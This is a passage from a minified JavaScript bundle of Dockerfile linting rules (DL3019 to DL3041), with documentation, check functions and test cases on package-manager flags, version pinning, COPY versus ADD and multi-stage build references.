`,expect:[]},{name:"variables",input:`FROM alpine
RUN apk add --no-cache $DEPS
`,expect:[]},{name:"other subcommands",input:`FROM alpine
RUN apk update && apk del .build-deps && apk info
`,expect:[]}]},ch=U0;var H0={id:"DL3019",language:"dockerfile",severity:"info",compat:{hadolint:"DL3019"},docs:{summary:"Use `apk add --no-cache`.",why:"Without `--no-cache`, apk stores the package index in `/var/cache/apk` and it stays in the layer. `--no-cache` fetches the index on the fly, so there is no need for `apk update` or removing the cache afterwards. A cache mount on `/var/cache/apk` is fine too.",bad:`FROM alpine:3.20
RUN apk update && apk add curl=8.9.1-r2
`,good:`FROM alpine:3.20
RUN apk add --no-cache curl=8.9.1-r2
`},check({model:n,report:e}){for(let t of H(n))if(!(We(n,t.ins,"/var/cache/apk")||We(n,t.ins,"/etc/apk/cache")))for(let s of t.commands){if(s.name!=="apk")continue;let i=z(s,fo)[0];i?.value!=="add"||Ot(s,[],["no-cache","no-network"])||e({message:"Use the `--no-cache` switch to avoid the need to use `--update` and remove `/var/cache/apk/*` when done installing packages",range:i.range,fixes:[{title:"Add `--no-cache`",edits:[_e(i,"--no-cache")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM alpine
RUN apk add curl
`,expect:[{line:2,col:9}],fixed:`FROM alpine
RUN apk add --no-cache curl
`},{name:"with --update",input:`FROM alpine
RUN apk --update add curl
`,expect:[{line:2}],fixed:`FROM alpine
RUN apk --update add --no-cache curl
`},{name:"present",input:`FROM alpine
RUN apk add --no-cache curl
`,expect:[]},{name:"present before the subcommand",input:`FROM alpine
RUN apk --no-cache add curl
`,expect:[]},{name:"cache mount",input:`FROM alpine
RUN --mount=type=cache,target=/var/cache/apk apk add curl
`,expect:[]},{name:"apk add --no-network",input:`FROM alpine
RUN apk add --no-network --virtual .rundeps so:libz.so.1
`,expect:[]},{name:"through xargs",input:`FROM alpine
RUN echo curl | xargs -rt apk add
`,expect:[{line:2,col:31}]},{name:"apk del",input:`FROM alpine
RUN apk del curl
`,expect:[]}]},lh=H0;var Y0=/\.(tar|tar\.(gz|bz2|xz|zst|lz|lzma|Z)|tgz|tbz2?|tb2|txz|tlz|tpz|tZ|gz|bz2|xz|lz|lzma|Z)$/i,W0=/^(https?|git|ssh):\/\/|^git@|\.git(#.*)?$/i,B0=new Set(["checksum","keep-git-dir","unpack"]),G0={id:"DL3020",language:"dockerfile",severity:"info",compat:{hadolint:"DL3020"},docs:{summary:"Use COPY instead of ADD for files and folders.",why:"ADD also downloads URLs and unpacks tar archives, so `ADD app.tar.gz /app` does something different from what it looks like. COPY does only what it says. ADD stays right for URLs, git repositories and archives you want extracted.",bad:`FROM python:3.12-slim
ADD requirements.txt /app/
`,good:`FROM python:3.12-slim
COPY requirements.txt /app/
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="ADD")continue;let s=Gt(n,t);if(!s||s.values.length<2||s.values.slice(0,-1).some(c=>c.includes("$")||W0.test(c)||Y0.test(c)))continue;let o=!t.node.getFlags().some(c=>B0.has(c.getName().toLowerCase())),a=t.written===t.written.toLowerCase()?"copy":t.written==="Add"?"Copy":"COPY";e({message:"Use COPY instead of ADD for files and folders",range:t.keywordRange,fixes:o?[{title:"Use COPY",edits:[{range:t.keywordRange,newText:a}],preferred:!0}]:void 0})}},tests:[{name:"local file",input:`FROM debian
ADD app.py /app/
`,expect:[{line:2,col:1}],fixed:`FROM debian
COPY app.py /app/
`},{name:"lower-case keyword keeps its case",input:`FROM debian
add --chown=app app /app
`,expect:[{line:2}],fixed:`FROM debian
copy --chown=app app /app
`},{name:"JSON form",input:`FROM debian
ADD ["a b.txt", "/app/"]
`,expect:[{line:2}],fixed:`FROM debian
COPY ["a b.txt", "/app/"]
`},{name:"URL",input:`FROM debian
ADD https://example.com/x.tgz /tmp/
`,expect:[]},{name:"git repository",input:`FROM debian
ADD git@github.com:moby/buildkit.git /src
ADD https://github.com/moby/buildkit.git#v0.14.1 /bk
`,expect:[]},{name:"archive to extract",input:`FROM debian
ADD rootfs.tar.xz /
ADD app.tgz /app
`,expect:[]},{name:"zip is not extracted",input:`FROM debian
ADD app.zip /app/
`,expect:[{line:2}]},{name:"variable source",input:`FROM debian
ARG SRC
ADD \${SRC} /app/
`,expect:[]},{name:"COPY",input:`FROM debian
COPY app.py /app/
`,expect:[]},{name:"quoted URL and archive (the builder removes the quotes)",input:`FROM debian
ADD "https://example.com/t.tar.gz" /tmp/
ADD "vendor.tar.gz" /opt/
ADD 'app.tgz' "/app"
`,expect:[]},{name:"quoted variable source",input:`FROM debian
ARG SRC
ADD "\${SRC}" /app/
`,expect:[]},{name:"quoted local file",input:`FROM debian
ADD "app.py" /app/
`,expect:[{line:2,col:1}],fixed:`FROM debian
COPY "app.py" /app/
`}]},uh=G0;var V0={id:"DL3021",language:"dockerfile",severity:"error",compat:{hadolint:"DL3021"},docs:{summary:"COPY with more than 2 arguments requires the last argument to end with `/`.",why:'With several sources the destination must be a directory; Docker rejects the build ("When using COPY with more than one source file, the destination must be a directory and end with a /").',bad:`FROM node:20-slim
COPY package.json package-lock.json /app
`,good:`FROM node:20-slim
COPY package.json package-lock.json /app/
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="COPY")continue;let s=Gt(n,t);if(!s||s.values.length<=2)continue;let i=s.values[s.values.length-1],r=s.ranges[s.ranges.length-1];if(i.endsWith("/")||i.includes("$"))continue;let o=n.textOf(r),c=o.length>1&&(o.endsWith('"')||o.endsWith("'"))?{line:r.end.line,character:r.end.character-1}:r.end;e({message:"COPY with more than 2 arguments requires the last argument to end with /",range:r,fixes:[{title:"Add a trailing /",edits:[{range:{start:c,end:c},newText:"/"}],preferred:!0}]})}},tests:[{name:"missing slash",input:`FROM node
COPY a b /app
`,expect:[{line:2,col:10}],fixed:`FROM node
COPY a b /app/
`},{name:"JSON form",input:`FROM node
COPY ["a", "b", "/app"]
`,expect:[{line:2}],fixed:`FROM node
COPY ["a", "b", "/app/"]
`},{name:"with --from flag",input:`FROM node AS b
FROM node
COPY --from=b /a /b .
`,expect:[{line:3}],fixed:`FROM node AS b
FROM node
COPY --from=b /a /b ./
`},{name:"present",input:`FROM node
COPY a b /app/
`,expect:[]},{name:"two arguments",input:`FROM node
COPY . /app
`,expect:[]},{name:"variable destination",input:`FROM node
COPY a b $DEST
`,expect:[]},{name:"quoted destination with a slash (the builder removes the quotes)",input:`FROM golang:1.22
COPY "go.mod" "go.sum" "./"
COPY a b '/app/'
`,expect:[]},{name:"quoted variable destination",input:`FROM node
COPY a b "$DEST"
`,expect:[]},{name:"quoted destination without a slash: fixed inside the quotes",input:`FROM node
COPY "a" "b" "/app"
COPY a b '/srv'
`,expect:[{line:2,col:14},{line:3,col:10}],fixed:`FROM node
COPY "a" "b" "/app/"
COPY a b '/srv/'
`}]},ph=V0;function z0(n){return/[:/@]/.test(n)}var K0={id:"DL3022",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3022"},docs:{summary:"`COPY --from` should reference a stage defined earlier (by name or index).",why:"A name that is no stage is pulled as an image from Docker Hub: a typo in `--from=biulder` turns into a confusing pull error, or silently copies from an unrelated public image. Referencing a later stage works only with BuildKit and makes the build order hard to follow.",bad:`FROM golang:1.22 AS builder
RUN go build -o /app .
FROM gcr.io/distroless/base
COPY --from=biulder /app /app
`,good:`FROM golang:1.22 AS builder
RUN go build -o /app .
FROM gcr.io/distroless/base
COPY --from=builder /app /app
`},check({model:n,report:e}){for(let{ins:t,value:s,range:i}of to(n)){let r=t.stage.index;if(/^\d+$/.test(s)){let u=Number(s);u>=n.stages.length?e({message:`COPY --from=${s}: there is no stage with index ${s} (stages are numbered from 0)`,range:i,severity:"error"}):u>r&&e({message:`COPY --from=${s} references a later stage; define stages before they are copied from`,range:i});continue}let o=n.stageNamed(s);if(o){o.index>r&&e({message:`COPY --from=${s} references a later stage; define stages before they are copied from`,range:i});continue}if(z0(s))continue;let a=n.stages.filter(u=>u.index<r&&u.name).map(u=>u.name),c=He(s,a),l=c?[{title:`Change to ${c}`,preferred:!0,edits:[{range:i,newText:c}]}]:void 0;e({message:`COPY --from=${s}: no earlier stage is named "${s}"${c?` (did you mean ${c}?)`:""}, so it is pulled as an image`,range:i,fixes:l})}},tests:[{name:"typo in stage name",input:`FROM golang AS builder
FROM alpine
COPY --from=biulder /app /app
`,expect:[{line:3,col:13,message:"did you mean builder?"}],fixed:`FROM golang AS builder
FROM alpine
COPY --from=builder /app /app
`},{name:"plain name that is not a stage",input:`FROM alpine
COPY --from=busybox /bin/busybox /bin/
`,expect:[{line:2,message:"pulled as an image"}]},{name:"later stage",input:`FROM alpine
COPY --from=late /a /a
FROM alpine AS late
`,expect:[{line:2,message:"later stage"}]},{name:"index out of range",input:`FROM alpine
FROM alpine
COPY --from=5 /a /a
`,expect:[{line:3,severity:"error"}]},{name:"later index",input:`FROM alpine
COPY --from=1 /a /a
FROM alpine
`,expect:[{line:2,message:"later"}]},{name:"valid references",input:`FROM golang AS Builder
FROM alpine
COPY --from=builder /a /a
COPY --from=0 /a /a
COPY --from=nginx:latest /etc/nginx /etc/nginx
COPY --from=docker.io/library/busybox /bin/busybox /bin/
COPY --from=gcr.io/distroless/base@sha256:abc /x /x
ARG S=builder
COPY --from=$S /a /a
`,expect:[]},{name:"ONBUILD is for the child build",input:`FROM alpine
ONBUILD COPY --from=assets /a /a
`,expect:[]}]},dh=K0;var J0={id:"DL3023",language:"dockerfile",severity:"error",compat:{hadolint:"DL3023"},docs:{summary:"`COPY --from` cannot reference the stage it is in.",why:"A stage cannot copy from itself: the builder fails with a circular dependency. Copy from an earlier stage, or copy without --from.",bad:`FROM node:22 AS build
RUN npm ci
COPY --from=build /app/dist /srv
`,good:`FROM node:22 AS build
RUN npm ci
RUN cp -r /app/dist /srv
`},check({model:n,report:e}){for(let{ins:t,value:s,range:i}of to(n))(/^\d+$/.test(s)?Number(s)===t.stage.index:t.stage.name?.toLowerCase()===s.toLowerCase())&&e({message:`COPY --from=${s} references its own stage`,range:i})},tests:[{name:"own stage by name",input:`FROM alpine AS a
COPY --from=a /x /y
`,expect:[{line:2,col:13}]},{name:"own stage by index",input:`FROM alpine
FROM alpine
COPY --from=1 /x /y
`,expect:[{line:3}]},{name:"own stage other case",input:`FROM alpine AS Build
COPY --from=build /x /y
`,expect:[{line:2}]},{name:"earlier stage",input:`FROM alpine AS a
FROM alpine AS b
COPY --from=a /x /y
COPY --from=0 /x /y
`,expect:[]}]},fh=J0;var X0=["docker.io","hub.docker.com","index.docker.io","registry-1.docker.io"];function Z0(n,e){let t=n==="docker.io"?X0:[n.toLowerCase()];return e.some(s=>{let i=s.toLowerCase();return i==="*"?!0:i.startsWith("*.")?t.some(r=>r.endsWith(i.slice(1))):t.includes(i)})}var Q0={id:"DL3026",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3026"},docs:{summary:"Use only an allowed registry in the FROM image (when `trustedRegistries` is configured).",why:"Organisations often only trust base images from their own mirror or a vetted registry. With `trustedRegistries: [docker.io, ghcr.io]` (hadolint config or Slipway settings) any other registry is reported. Nothing is reported when the list is empty.",bad:`FROM quay.io/org/app:1.0
`,good:`FROM docker.io/library/python:3.12-slim
`,options:{trustedRegistries:["docker.io"]}},check({model:n,report:e,options:t}){let s=t.trustedRegistries;if(s.length)for(let i of rt(n,t.buildArgs)){if(i.resolved===void 0||i.stageRef||i.scratch)continue;let r=i.registry??"docker.io";Z0(r,s)||e({message:`Use only an allowed registry in the FROM image (\`${r}\` is not in trustedRegistries)`,range:i.range})}},tests:[{name:"not configured: nothing",input:`FROM quay.io/org/app:1.0
`,expect:[]},{name:"untrusted registry",input:`FROM quay.io/org/app:1.0
`,options:{trustedRegistries:["docker.io"]},expect:[{line:1,col:6,message:"quay.io"}]},{name:"Docker Hub implied",input:`FROM python:3.12
`,options:{trustedRegistries:["docker.io"]},expect:[]},{name:"Docker Hub not trusted",input:`FROM python:3.12
`,options:{trustedRegistries:["ghcr.io"]},expect:[{line:1}]},{name:"wildcard",input:`FROM eu.gcr.io/p/app:1
`,options:{trustedRegistries:["*.gcr.io"]},expect:[]},{name:"stages and scratch",input:`FROM ghcr.io/o/a:1 AS a
FROM a
FROM scratch
`,options:{trustedRegistries:["ghcr.io"]},expect:[]},{name:"registry from an ARG",input:`ARG REG=quay.io
FROM \${REG}/o/a:1
`,options:{trustedRegistries:["docker.io"]},expect:[{line:2}]}]},hh=Q0;var eO=new Set(["install","remove","purge","update","upgrade","dist-upgrade","autoremove","autopurge","clean","autoclean","source","build-dep","download","changelog","satisfy","check"]),tO=new Set(["search","show","showsrc","policy","depends","rdepends"]),nO={id:"DL3027",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3027"},docs:{summary:"Do not use `apt`; use `apt-get` or `apt-cache` in scripts.",why:'`apt` is meant for people at a terminal: its output and behaviour may change between releases and it warns "apt does not have a stable CLI interface". `apt-get` and `apt-cache` are the stable interfaces for scripts.',bad:`FROM debian:bookworm
RUN apt update && apt install -y curl
`,good:`FROM debian:bookworm
RUN apt-get update && apt-get install -y curl
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="apt"||s.nameWord.quoted)continue;let i=uo(s,Ol)?.value??"",r=eO.has(i)?"apt-get":tO.has(i)?"apt-cache":void 0,o=s.nameWord,a=o.value.slice(0,o.value.length-Xe(o.value).length);e({message:"Do not use apt as it is meant to be an end-user tool, use apt-get or apt-cache instead",range:o.range,fixes:r?[{title:`Use ${r}`,edits:[{range:o.range,newText:a+r}],preferred:!0}]:void 0})}},tests:[{name:"apt install",input:`FROM debian
RUN apt update && apt install -y curl
`,expect:[{line:2,col:5},{line:2,col:19}],fixed:`FROM debian
RUN apt-get update && apt-get install -y curl
`},{name:"apt search uses apt-cache",input:`FROM debian
RUN apt search curl
`,expect:[{line:2}],fixed:`FROM debian
RUN apt-cache search curl
`},{name:"apt list has no stable equivalent: no fix",input:`FROM debian
RUN apt list --installed
`,expect:[{line:2}],fixed:`FROM debian
RUN apt list --installed
`},{name:"apt-get and apt-cache are fine",input:`FROM debian
RUN apt-get update && apt-cache policy curl
`,expect:[]},{name:"apt as an argument",input:`FROM debian
RUN echo apt && ls /etc/apt
`,expect:[]}]},mh=nO;var sO=new Set(["i","install-dir","n","bindir","s","source","platform","P","trust-policy","g","file","document","build-root"]),iO={id:"DL3028",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3028"},docs:{summary:"Pin versions in `gem install`.",why:"An unpinned gem installs the newest release at build time, so rebuilds are not reproducible and can break. Use `gem install <gem>:<version>` or `-v`.",bad:`FROM ruby:3.3
RUN gem install bundler
`,good:`FROM ruby:3.3
RUN gem install bundler:2.5.10
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="gem")continue;let i=z(s,sO);if(!i.length||i[0].value!=="install"&&i[0].value!=="i"||s.args.some(o=>o.value==="-v"||o.value==="--version"||o.value.startsWith("--version=")))continue;let r=i.slice(1).filter(o=>!o.dynamic&&!o.value.includes(":")&&!o.value.endsWith(".gem"));r.length&&e({message:`Pin versions in gem install: ${r.map(o=>o.value).join(", ")}. Instead of \`gem install <gem>\` use \`gem install <gem>:<version>\``,range:r[0].range})}},tests:[{name:"unpinned",input:`FROM ruby:3.3
RUN gem install bundler
`,expect:[{line:2,col:17}]},{name:"pinned with colon",input:`FROM ruby:3.3
RUN gem install bundler:2.5.10 rake:13.2.1
`,expect:[]},{name:"pinned with -v",input:`FROM ruby:3.3
RUN gem install bundler -v 2.5.10 && gem install rails --version=7.1.3
`,expect:[]},{name:"local gem file",input:`FROM ruby:3.3
RUN gem install ./pkg/app-1.0.gem
`,expect:[]},{name:"gem update",input:`FROM ruby:3.3
RUN gem update --system
`,expect:[]}]},gh=iO;var rO={id:"DL3029",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3029"},docs:{summary:"Do not use `--platform` with FROM (except `$BUILDPLATFORM`/`$TARGETPLATFORM`).",why:"A fixed platform in FROM makes the image build for that platform whatever `docker build --platform` asks for, so multi-platform builds quietly produce the wrong architecture. The cross-compilation idiom `FROM --platform=$BUILDPLATFORM` is intended and not reported (hadolint reports it too).",bad:`FROM --platform=linux/amd64 python:3.12-slim
`,good:`FROM python:3.12-slim
`},check({model:n,report:e}){for(let t of n.stages){let s=t.platformFlag;if(!s)continue;let i=Te(n,t).platform??"";i&&(/^\$\{?(BUILD|TARGET)PLATFORM\}?$/.test(i)||e({message:"Do not use --platform flag with FROM",range:s.getRange()}))}},tests:[{name:"constant platform",input:`FROM --platform=linux/amd64 debian:12
`,expect:[{line:1,col:6}]},{name:"other ARG",input:`ARG P=linux/arm64
FROM --platform=$P debian:12
`,expect:[{line:2}]},{name:"BUILDPLATFORM idiom",input:`FROM --platform=$BUILDPLATFORM golang:1.22 AS build
FROM --platform=\${TARGETPLATFORM} debian:12
`,expect:[]},{name:"no flag",input:`FROM debian:12
`,expect:[]},{name:"quoted BUILDPLATFORM idiom (the builder removes the quotes)",input:`FROM --platform="$BUILDPLATFORM" golang:1.22 AS build
FROM --platform='\${TARGETPLATFORM}' debian:12
FROM "--platform=$BUILDPLATFORM" debian:12
`,expect:[]},{name:"quoted constant platform",input:`FROM --platform="linux/amd64" debian:12
`,expect:[{line:1,col:6,message:"Do not use --platform flag with FROM"}]}]},yh=rO;var oO={id:"DL3030",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3030"},docs:{summary:"Use the `-y` switch with `yum install`.",why:'A build has no terminal: yum asks "Is this ok [y/N]", reads end-of-file and aborts the install, failing the build.',bad:`FROM centos:7
RUN yum install httpd-2.4.6 && yum clean all
`,good:`FROM centos:7
RUN yum install -y httpd-2.4.6 && yum clean all
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="yum")continue;let i=z(s,ot)[0];!i||!["install","groupinstall","localinstall","reinstall"].includes(i.value)||Ot(s,["y"],["assumeyes"])||e({message:"Use the -y switch to avoid manual input `yum install -y <package>`",range:i.range,fixes:[{title:"Add `-y`",edits:[_e(i,"-y")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM centos:7
RUN yum install httpd
`,expect:[{line:2,col:9}],fixed:`FROM centos:7
RUN yum install -y httpd
`},{name:"present",input:`FROM centos:7
RUN yum -y install httpd && yum install --assumeyes git
`,expect:[]},{name:"groupinstall",input:`FROM centos:7
RUN yum groupinstall "Development Tools"
`,expect:[{line:2}]},{name:"enablerepo value",input:`FROM centos:7
RUN yum --enablerepo epel install -y jq
`,expect:[]}]},bh=oO;var aO={id:"DL3032",language:"dockerfile",severity:"info",compat:{hadolint:"DL3032"},docs:{summary:"`yum clean all` missing after `yum install`.",why:"yum keeps downloaded packages and metadata in `/var/cache/yum`; unless it is cleaned in the same RUN, that cache stays in the layer.",bad:`FROM centos:7
RUN yum install -y httpd-2.4.6
`,good:`FROM centos:7
RUN yum install -y httpd-2.4.6 && yum clean all
`},check({model:n,report:e}){for(let t of H(n)){let s=t.commands.find(o=>o.name==="yum"&&z(o,ot)[0]?.value==="install");if(!s||t.commands.some(o=>o.name==="yum"&&o.args.some((a,c)=>a.value==="clean"&&o.args[c+1]?.value==="all")||o.name==="rm"&&o.args.some(a=>/^\/var\/cache\/yum(\/\*?)?$/.test(a.value)))||We(n,t.ins,"/var/cache/yum"))continue;let r=St(n,t,"yum clean all");e({message:"`yum clean all` missing after yum command",range:s.nameWord.range,fixes:r?[{title:"Append `yum clean all`",edits:[r],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM centos:7
RUN yum install -y httpd
`,expect:[{line:2,col:5}],fixed:`FROM centos:7
RUN yum install -y httpd && yum clean all
`},{name:"cleaned",input:`FROM centos:7
RUN yum install -y httpd && yum clean all
`,expect:[]},{name:"rm of the cache",input:`FROM centos:7
RUN yum install -y httpd && rm -rf /var/cache/yum
`,expect:[]},{name:"cache mount",input:`FROM centos:7
RUN --mount=type=cache,target=/var/cache/yum yum install -y httpd
`,expect:[]}]},wh=aO;var cO={id:"DL3033",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3033"},docs:{summary:"Specify versions with `yum install -y <package>-<version>`.",why:"Unpinned packages make every build depend on what the repositories hold that day; a rebuild can silently upgrade and break the image.",bad:`FROM centos:7
RUN yum install -y httpd && yum clean all
`,good:`FROM centos:7
RUN yum install -y httpd-2.4.6 && yum clean all
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="yum")continue;let i=z(s,ot),r=i[0]?.value==="module";if((r?i[1]:i[0])?.value!=="install")continue;let c=i.slice(r?2:1).filter(rs).filter(l=>r?!l.value.includes(":"):!ho(l.value));c.length&&e({message:`Specify version with \`yum install -y <package>-<version>\`: ${c.map(l=>l.value).join(", ")}`,range:c[0].range})}},tests:[{name:"unpinned",input:`FROM centos:7
RUN yum install -y httpd python3-pip
`,expect:[{line:2,col:20,message:"httpd, python3-pip"}]},{name:"pinned",input:`FROM centos:7
RUN yum install -y httpd-2.4.6 git-1.8.3.1-25.el7 ./local.rpm
`,expect:[]},{name:"module with stream",input:`FROM centos:8
RUN yum module install -y nodejs:20
`,expect:[]},{name:"module without stream",input:`FROM centos:8
RUN yum module install -y nodejs
`,expect:[{line:2}]},{name:"provides and variables",input:`FROM centos:7
RUN yum install -y /usr/bin/ps "perl(Data::Dumper)" $PKGS
`,expect:[]}]},vh=cO;var lO=["install","in","remove","rm","source-install","si","patch","update","up","dist-upgrade","dup"],uO={id:"DL3034",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3034"},docs:{summary:"Non-interactive switch missing from `zypper` command: use `zypper install -y` (or `zypper -n`).",why:"Without a terminal zypper cannot get an answer to its confirmation prompt and the build fails.",bad:`FROM opensuse/leap:15.6
RUN zypper install httpd=2.4.58 && zypper clean
`,good:`FROM opensuse/leap:15.6
RUN zypper install -y httpd=2.4.58 && zypper clean
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="zypper")continue;let i=z(s,Yt)[0];!i||!lO.includes(i.value)||Ot(s,["y","n"],["no-confirm","non-interactive"])||e({message:"Non-interactive switch missing from `zypper` command: `zypper install -y`",range:i.range,fixes:[{title:"Add `-y`",edits:[_e(i,"-y")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM opensuse/leap
RUN zypper install httpd
`,expect:[{line:2,col:12}],fixed:`FROM opensuse/leap
RUN zypper install -y httpd
`},{name:"-y, --no-confirm",input:`FROM opensuse/leap
RUN zypper in -y httpd && zypper rm --no-confirm vim
`,expect:[]},{name:"global -n / --non-interactive",input:`FROM opensuse/leap
RUN zypper -n install httpd && zypper --non-interactive in git
`,expect:[]},{name:"refresh does not prompt",input:`FROM opensuse/leap
RUN zypper refresh
`,expect:[]}]},kh=uO;var pO={id:"DL3035",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3035"},docs:{summary:"Do not use `zypper dist-upgrade`.",why:"A distribution upgrade inside an image build moves the whole system to whatever the repositories hold that day; use an up-to-date base image instead.",bad:`FROM opensuse/leap:15.6
RUN zypper -n dist-upgrade
`,good:`FROM opensuse/leap:15.6
RUN zypper -n install -y httpd=2.4.58 && zypper clean
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="zypper")continue;let i=z(s,Yt)[0];i&&(i.value==="dist-upgrade"||i.value==="dup")&&e({message:"Do not use `zypper dist-upgrade`",range:i.range})}},tests:[{name:"dist-upgrade",input:`FROM opensuse/leap
RUN zypper -n dist-upgrade
`,expect:[{line:2,col:15}]},{name:"dup",input:`FROM opensuse/leap
RUN zypper dup -y
`,expect:[{line:2}]},{name:"install",input:`FROM opensuse/leap
RUN zypper -n install vim
`,expect:[]}]},xh=pO;var dO={id:"DL3036",language:"dockerfile",severity:"info",compat:{hadolint:"DL3036"},docs:{summary:"`zypper clean` missing after `zypper install`.",why:"zypper keeps repository metadata and packages in `/var/cache/zypp`; clean it in the same RUN or it stays in the layer.",bad:`FROM opensuse/leap:15.6
RUN zypper install -y httpd=2.4.58
`,good:`FROM opensuse/leap:15.6
RUN zypper install -y httpd=2.4.58 && zypper clean
`},check({model:n,report:e}){for(let t of H(n)){let s=a=>a.name==="zypper"?z(a,Yt)[0]?.value:void 0,i=t.commands.findIndex(a=>["install","in"].includes(s(a)??""));if(i<0||t.commands.some((a,c)=>c>i&&(["clean","cc"].includes(s(a)??"")||a.name==="rm"&&a.args.some(l=>/^\/var\/cache\/zypp/.test(l.value))))||We(n,t.ins,"/var/cache/zypp"))continue;let o=St(n,t,"zypper clean -a");e({message:"`zypper clean` missing after zypper use",range:t.commands[i].nameWord.range,fixes:o?[{title:"Append `zypper clean -a`",edits:[o],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM opensuse/leap
RUN zypper install -y vim
`,expect:[{line:2,col:5}],fixed:`FROM opensuse/leap
RUN zypper install -y vim && zypper clean -a
`},{name:"cleaned",input:`FROM opensuse/leap
RUN zypper install -y vim && zypper clean
`,expect:[]},{name:"zypper cc",input:`FROM opensuse/leap
RUN zypper -n in vim && zypper cc -a
`,expect:[]},{name:"clean before install does not count",input:`FROM opensuse/leap
RUN zypper clean && zypper install -y vim
`,expect:[{line:2}]}]},Rh=dO;var fO={id:"DL3037",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3037"},docs:{summary:"Specify versions with `zypper install -y <package>=<version>`.",why:"Unpinned packages make every build depend on what the repositories hold that day; a rebuild can silently upgrade and break the image.",bad:`FROM opensuse/leap:15.6
RUN zypper install -y httpd && zypper clean
`,good:`FROM opensuse/leap:15.6
RUN zypper install -y httpd=2.4.58 && zypper clean
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="zypper")continue;let i=z(s,Yt);if(!i[0]||!["install","in"].includes(i[0].value))continue;let r=i.slice(1).filter(o=>rs(o)&&!/[=<>]/.test(o.value)&&!o.value.endsWith(".rpm"));r.length&&e({message:`Specify version with \`zypper install -y <package>=<version>\`: ${r.map(o=>o.value).join(", ")}`,range:r[0].range})}},tests:[{name:"unpinned",input:`FROM opensuse/leap
RUN zypper install -y httpd
`,expect:[{line:2,col:23}]},{name:"pinned",input:`FROM opensuse/leap
RUN zypper install -y httpd=2.4.58 "git>=2.40" ./x.rpm
`,expect:[]},{name:"type value",input:`FROM opensuse/leap
RUN zypper install -y -t pattern devel_basis=1
`,expect:[]}]},Oh=fO;var hO=["dnf","dnf5","microdnf"],mO={id:"DL3038",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3038"},docs:{summary:"Use the `-y` switch with `dnf install`.",why:'A build has no terminal: dnf asks "Is this ok [y/N]", reads end-of-file and aborts the install, failing the build.',bad:`FROM fedora:40
RUN dnf install httpd-2.4.59 && dnf clean all
`,good:`FROM fedora:40
RUN dnf install -y httpd-2.4.59 && dnf clean all
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(!hO.includes(s.name))continue;let i=z(s,ot)[0];!i||!["install","groupinstall","localinstall","reinstall"].includes(i.value)||Ot(s,["y"],["assumeyes"])||e({message:`Use the -y switch to avoid manual input \`${s.name} install -y <package>\``,range:i.range,fixes:[{title:"Add `-y`",edits:[_e(i,"-y")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM fedora
RUN dnf install httpd
`,expect:[{line:2,col:9}],fixed:`FROM fedora
RUN dnf install -y httpd
`},{name:"microdnf",input:`FROM ubi9-minimal
RUN microdnf install httpd
`,expect:[{line:2}]},{name:"present",input:`FROM fedora
RUN dnf -y install httpd && dnf install --assumeyes git
`,expect:[]},{name:"dnf module enable is not install",input:`FROM fedora
RUN dnf module enable -y nodejs:20
`,expect:[]}]},Sh=mO;var Mh=["dnf","dnf5","microdnf"],gO={id:"DL3040",language:"dockerfile",severity:"info",compat:{hadolint:"DL3040"},docs:{summary:"`dnf clean all` missing after `dnf install`.",why:"dnf keeps repository metadata and packages in `/var/cache/dnf`; clean it in the same RUN or it stays in the layer.",bad:`FROM fedora:40
RUN dnf install -y httpd-2.4.59
`,good:`FROM fedora:40
RUN dnf install -y httpd-2.4.59 && dnf clean all
`},check({model:n,report:e}){for(let t of H(n))for(let s of Mh){let i=t.commands.findIndex(a=>a.name===s&&z(a,ot)[0]?.value==="install");if(i<0||t.commands.some((a,c)=>c>i&&(Mh.includes(a.name)&&a.args.some((l,u)=>l.value==="clean"&&a.args[u+1]?.value==="all")||a.name==="rm"&&a.args.some(l=>/^\/var\/cache\/(yum|dnf)(\/\*?)?$/.test(l.value))))||We(n,t.ins,"/var/cache/dnf")||We(n,t.ins,"/var/cache/yum"))continue;let o=St(n,t,`${s} clean all`);e({message:`\`${s} clean all\` missing after ${s} command`,range:t.commands[i].nameWord.range,fixes:o?[{title:`Append \`${s} clean all\``,edits:[o],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM fedora
RUN dnf install -y httpd
`,expect:[{line:2,col:5}],fixed:`FROM fedora
RUN dnf install -y httpd && dnf clean all
`},{name:"microdnf",input:`FROM ubi9-minimal
RUN microdnf install -y httpd
`,expect:[{line:2}],fixed:`FROM ubi9-minimal
RUN microdnf install -y httpd && microdnf clean all
`},{name:"cleaned",input:`FROM fedora
RUN dnf install -y httpd && dnf clean all
`,expect:[]},{name:"rm of the cache",input:`FROM fedora
RUN dnf install -y httpd && rm -rf /var/cache/yum/*
`,expect:[]},{name:"cache mount",input:`FROM fedora
RUN --mount=type=cache,target=/var/cache/dnf dnf install -y httpd
`,expect:[]}]},Ah=gO;var yO=["dnf","dnf5","microdnf"],bO={id:"DL3041",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3041"},docs:{summary:"Specify versions with `dnf install -y <package>-<version>`.",why:"Unpinned packages make every build depend on what the repositories hold that day; a rebuild can silently upgrade and break the image.",bad:`FROM fedora:40
